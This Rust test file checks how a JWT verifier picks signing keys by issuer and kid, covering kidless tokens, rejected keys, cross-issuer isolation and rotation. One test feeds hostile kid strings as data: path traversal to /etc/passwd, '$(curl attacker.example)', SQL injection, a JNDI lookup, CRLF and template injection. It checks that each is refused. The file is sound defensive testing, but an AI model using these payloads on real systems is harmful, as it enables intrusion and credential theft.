//! Which key may judge a token: by issuer and `kid`, or the few that come into question when it names none.

use edge_assay::jose::jwk::SetAsideReason;
use edge_assay::jose::signature::KeyError;
use edge_assay::jose::{Algorithm, base64url};
use edge_assay::rejection::{Fault, NoKey, Rejection, excerpt};
use serde_json::{Value, json};

use super::{ISS, token, world};
use crate::support::keys::{self, ed25519, ed25519_second, p_256, rsa_2048};
use crate::support::platform::Answer;
use crate::support::tokens;
use crate::support::world::{World, claims, issuer, jwks_uri};

/// A world whose issuer publishes these JWKs.
fn publishing(jwks: &[Value]) -> World {
    let world = World::trusting(&[issuer(ISS, &json!({}))]);
    world.serves(&jwks_uri(ISS), Answer::json(keys::jwks(jwks)));
    world
}

/// A token without a `kid`.
fn kidless(algorithm: Algorithm) -> String {
    tokens::mint(algorithm, &json!({ "kid": null }), &claims(ISS, &json!({})))
}

fn named(algorithm: Algorithm, kid: &str) -> String {
    tokens::mint(algorithm, &json!({ "kid": kid }), &claims(ISS, &json!({})))
}

/// The public JWK of an Ed25519 key that signs nothing here.
fn bystander(seed: u8) -> Value {
    let key = ed25519_dalek::SigningKey::from_bytes(&[seed; 32]).verifying_key();
    json!({ "kty": "OKP", "crv": "Ed25519", "kid": format!("bystander {seed}"), "x": base64url::encode(key.as_bytes()) })
}

#[test]
fn a_token_without_a_kid_tries_eight_keys_and_no_more() {
    for before in 0..=10_u8 {
        let mut set: Vec<Value> = (1..=before).map(bystander).collect();
        set.push(ed25519().public_jwk());
        let world = publishing(&set);
        if before < 8 {
            let verified = world.judge(&kidless(Algorithm::EdDsa)).unwrap();
            assert_eq!(verified.key().kid.as_deref(), Some(ed25519().kid()), "the key's own");
        } else {
            let expected = Rejection::SignatureInvalid { kid: None };
            assert_eq!(world.rejection(&kidless(Algorithm::EdDsa)), expected, "after {before} others");
        }
    }
}

#[test]
fn keys_of_another_algorithm_do_not_count_among_the_eight() {
    let mut set: Vec<Value> =
        (0..20).map(|index| p_256().public_jwk_with(&json!({ "kid": index.to_string() }))).collect();
    set.push(ed25519().public_jwk());
    assert!(publishing(&set).accepts(&kidless(Algorithm::EdDsa)));
}

#[test]
fn a_key_without_a_kid_judges_tokens_without_one_alone() {
    let world = publishing(&[ed25519().public_jwk_with(&json!({ "kid": null }))]);
    assert!(world.accepts(&kidless(Algorithm::EdDsa)));
    assert_eq!(
        world.rejection(&token(&json!({}))),
        Rejection::KeyNotFound(NoKey::KeysWithoutKid { kid: ed25519().kid().to_owned(), known: 1 })
    );
    // Beside a key that has one, the token's is simply unknown.
    let world = publishing(&[ed25519().public_jwk_with(&json!({ "kid": null })), bystander(1)]);
    assert_eq!(
        world.rejection(&token(&json!({}))),
        Rejection::KeyNotFound(NoKey::UnknownKid {
            kid: ed25519().kid().to_owned(),
            known: 2,
            age_seconds: 0,
            next_fetch_seconds: 30
        })
    );
}

#[test]
fn a_token_without_a_kid_needs_a_key_of_its_algorithm() {
    let world = publishing(&[p_256().public_jwk(), rsa_2048().public_jwk()]);
    assert_eq!(
        world.rejection(&kidless(Algorithm::EdDsa)),
        Rejection::KeyNotFound(NoKey::NoneForAlgorithm { algorithm: "EdDSA", known: 2 })
    );
}

#[test]
fn a_set_without_a_usable_key_is_the_providers_fault_unless_the_issuer_has_secrets() {
    let weak = rsa_2048().public_jwk_with(&json!({ "kid": "weak", "n": base64url::encode(&[0xff; 128]) }));
    let enc = ed25519().public_jwk_with(&json!({ "use": "enc" }));
    let mut token_kinds = vec![kidless(Algorithm::EdDsa), token(&json!({}))];
    token_kinds.push(named(Algorithm::Rs256, "weak"));
    for token in token_kinds {
        for (set, words) in [
            (vec![], vec!["empty"]),
            (vec![enc.clone(), weak.clone()], vec!["enc", "1024", "weak", ed25519().kid()]),
        ] {
            let world = publishing(&set);
            let fault = world.fault(&token);
            let Fault::JwksInvalid { reason, .. } = &fault else { panic!("{fault:?}") };
            assert!(reason.starts_with("no usable key"), "{reason}");
            assert!(words.iter().all(|word| reason.contains(word)), "each key with its reason: {reason}");
            // It is not kept: the next set is taken as soon as the origin may be asked again.
            world.publishes(ISS, &[ed25519(), p_256()]);
            world.platform.pass(2);
            assert!(world.accepts(&self::token(&json!({}))));
        }
    }

    let secrets = json!({ "secrets": [{ "binding": "S" }], "algorithms": ["HS256", "EdDSA"] });
    let config = json!({ "issuers": [issuer(ISS, &secrets)] });
    let world = World::with_secrets(&config, &[("S", keys::SECRET)]);
    world.serves(&jwks_uri(ISS), Answer::json(keys::jwks(&[])));
    assert_eq!(
        world.rejection(&kidless(Algorithm::EdDsa)),
        Rejection::KeyNotFound(NoKey::NoneForAlgorithm { algorithm: "EdDSA", known: 0 })
    );
    assert!(world.accepts(&tokens::mint(Algorithm::Hs256, &json!({}), &claims(ISS, &json!({})))));
}

#[test]
fn a_kid_is_a_name_and_is_never_interpreted() {
    let world = world(&json!({}));
    for kid in [
        "",
        "../../../../../../dev/null",
        "/dev/null",
        "file:///etc/passwd",
        "https://attacker.example/jwks.json",
        "x' UNION SELECT 'secret'; --",
        "$(curl attacker.example)",
        "| cat /etc/passwd",
        "${jndi:ldap://attacker.example}",
        "{{7*7}}",
        "a\r\nX-Injected: 1",
        "a\0b",
        "__proto__",
        "constructor",
        "0",
        "*",
        "\u{202e}dik",
    ]
    .into_iter()
    .map(str::to_owned)
    .chain([
        ed25519().kid().to_uppercase() + "x",
        format!("{} ", ed25519().kid()),
        format!("{}\0", ed25519().kid()),
        "k".repeat(8000),
    ]) {
        assert_eq!(
            world.rejection(&named(Algorithm::EdDsa, &kid)),
            Rejection::KeyNotFound(NoKey::UnknownKid {
                kid: excerpt(&kid),
                known: 1,
                age_seconds: 0,
                next_fetch_seconds: 30
            }),
            "{kid:?}"
        );
    }
    let urls: Vec<String> = world.platform.origin.requests().into_iter().map(|request| request.url).collect();
    assert_eq!(urls, [jwks_uri(ISS)], "one look, where the configuration says");
    assert!(world.accepts(&token(&json!({}))), "and the good key is not delayed");
}

#[test]
fn a_kid_that_is_no_string_is_malformed() {
    let world = world(&json!({}));
    for kid in [json!(1), json!(["a"]), json!({ "a": 1 }), json!(true)] {
        let minted = tokens::mint(Algorithm::EdDsa, &json!({ "kid": kid }), &claims(ISS, &json!({})));
        assert_eq!(world.rejection(&minted).code(), "token_malformed");
    }
}

#[test]
fn the_same_kid_at_two_issuers_never_crosses() {
    const OTHER: &str = "https://other.example";
    let world = World::trusting(&[issuer(ISS, &json!({})), issuer(OTHER, &json!({}))]);
    let same = json!({ "kid": "same" });
    world.serves(&jwks_uri(ISS), Answer::json(keys::jwks(&[ed25519().public_jwk_with(&same)])));
    world.serves(&jwks_uri(OTHER), Answer::json(keys::jwks(&[ed25519_second().public_jwk_with(&same)])));
    let minted = |key, name| tokens::mint_with_key(Algorithm::EdDsa, key, &same, &claims(name, &json!({})));
    let invalid = Rejection::SignatureInvalid { kid: Some("same".to_owned()) };
    assert_eq!(world.rejection(&minted(ed25519_second(), ISS)), invalid);
    assert_eq!((world.fetches(ISS), world.fetches(OTHER)), (1, 0), "only the named issuer is asked");
    // Now both sets are in memory.
    assert!(world.accepts(&minted(ed25519_second(), OTHER)));
    assert!(world.accepts(&minted(ed25519(), ISS)));
    assert_eq!(world.rejection(&minted(ed25519_second(), ISS)), invalid);
    assert_eq!(world.rejection(&minted(ed25519(), OTHER)), invalid);
    assert_eq!((world.fetches(ISS), world.fetches(OTHER)), (1, 1));
}

#[test]
fn a_kid_of_another_issuer_is_unknown() {
    const OTHER: &str = "https://other.example";
    let world = World::trusting(&[issuer(ISS, &json!({})), issuer(OTHER, &json!({}))]);
    world.publishes(ISS, &[ed25519()]);
    world.publishes(OTHER, &[ed25519_second()]);
    assert!(world.accepts(&tokens::mint_with_key(
        Algorithm::EdDsa,
        ed25519_second(),
        &json!({}),
        &claims(OTHER, &json!({}))
    )));
    let forged =
        tokens::mint_with_key(Algorithm::EdDsa, ed25519_second(), &json!({}), &claims(ISS, &json!({})));
    assert_eq!(
        world.rejection(&forged),
        Rejection::KeyNotFound(NoKey::UnknownKid {
            kid: ed25519_second().kid().to_owned(),
            known: 1,
            age_seconds: 0,
            next_fetch_seconds: 30
        })
    );
}

#[test]
fn each_of_two_keys_with_one_kid_may_have_signed() {
    let same = json!({ "kid": "same" });
    let world = publishing(&[
        ed25519_second().public_jwk_with(&same),
        ed25519().public_jwk_with(&same),
        bystander(1),
    ]);
    for key in [ed25519(), ed25519_second()] {
        assert!(world.accepts(&tokens::mint_with_key(
            Algorithm::EdDsa,
            key,
            &same,
            &claims(ISS, &json!({}))
        )));
    }
    // Of different types: the token's algorithm chooses.
    let mixed = publishing(&[p_256().public_jwk_with(&same), ed25519().public_jwk_with(&same)]);
    assert!(mixed.accepts(&named(Algorithm::EdDsa, "same")));
    assert!(mixed.accepts(&named(Algorithm::Es256, "same")));
    // One of them set aside.
    let aside = ed25519_second().public_jwk_with(&json!({ "kid": "same", "use": "enc" }));
    assert!(publishing(&[aside, ed25519().public_jwk_with(&same)]).accepts(&named(Algorithm::EdDsa, "same")));
}

#[test]
fn a_key_judges_only_what_its_type_and_its_alg_allow() {
    let other = |kid: &str, algorithm| {
        Rejection::KeyNotFound(NoKey::OtherAlgorithm { kid: kid.to_owned(), algorithm })
    };
    let world = publishing(&[p_256().public_jwk(), rsa_2048().public_jwk_with(&json!({ "alg": "RS256" }))]);
    assert_eq!(world.rejection(&named(Algorithm::EdDsa, p_256().kid())), other(p_256().kid(), "EdDSA"));
    assert_eq!(
        world.rejection(&named(Algorithm::Ps256, rsa_2048().kid())),
        other(rsa_2048().kid(), "PS256"),
        "the key says RS256"
    );
    assert!(world.accepts(&named(Algorithm::Rs256, rsa_2048().kid())));
    assert_eq!(world.fetches(ISS), 1);
}

#[test]
fn a_key_that_was_set_aside_is_unusable_and_says_why() {
    let with = |key: &keys::TestKey, changes: Value| key.public_jwk_with(&changes);
    let rows = [
        (with(ed25519(), json!({ "use": "enc" })), SetAsideReason::NotForSignatures("enc".to_owned())),
        (with(ed25519(), json!({ "key_ops": ["sign"] })), SetAsideReason::NotForVerifying),
        (with(ed25519(), json!({ "alg": "RS256" })), SetAsideReason::IncompatibleAlgorithm(Algorithm::Rs256)),
        (with(ed25519(), json!({ "d": "AAAA" })), SetAsideReason::PrivateMember("d")),
        (with(ed25519(), json!({ "x": "AAAA" })), SetAsideReason::Malformed("x")),
        (with(ed25519(), json!({ "kty": "oct", "k": "c2VjcmV0" })), SetAsideReason::Symmetric),
        (with(rsa_2048(), json!({ "e": "Aw" })), SetAsideReason::Unusable(KeyError::BadExponent)),
        (with(rsa_2048(), json!({ "e": "AQAC" })), SetAsideReason::Unusable(KeyError::BadExponent)),
        (
            with(rsa_2048(), json!({ "n": base64url::encode(&[0xff; 128]) })),
            SetAsideReason::Unusable(KeyError::WeakRsa { bits: 1024 }),
        ),
    ];
    for (jwk, reason) in rows {
        let algorithm = if jwk["kty"] == "RSA" { Algorithm::Rs256 } else { Algorithm::EdDsa };
        let kid = jwk["kid"].as_str().unwrap().to_owned();
        // A good key beside it goes on serving.
        let world = publishing(&[jwk, p_256().public_jwk()]);
        let reason = reason.to_string();
        assert_eq!(
            world.rejection(&named(algorithm, &kid)),
            Rejection::KeyUnusable { kid: Some(kid), reason }
        );
        assert!(world.accepts(&named(Algorithm::Es256, p_256().kid())));
        assert_eq!(world.fetches(ISS), 1, "a key that is known to be bad is not looked for again");
    }
}

#[test]
fn a_rotation_is_seen_at_once_by_the_new_kid() {
    let world = world(&json!({}));
    assert!(world.accepts(&token(&json!({}))));
    world.publishes(ISS, &[ed25519(), ed25519_second()]);
    let new = tokens::mint_with_key(Algorithm::EdDsa, ed25519_second(), &json!({}), &claims(ISS, &json!({})));
    assert!(world.accepts(&new));
    assert!(world.accepts(&token(&json!({}))), "the old key is still published");
    assert_eq!(world.fetches(ISS), 2);
}
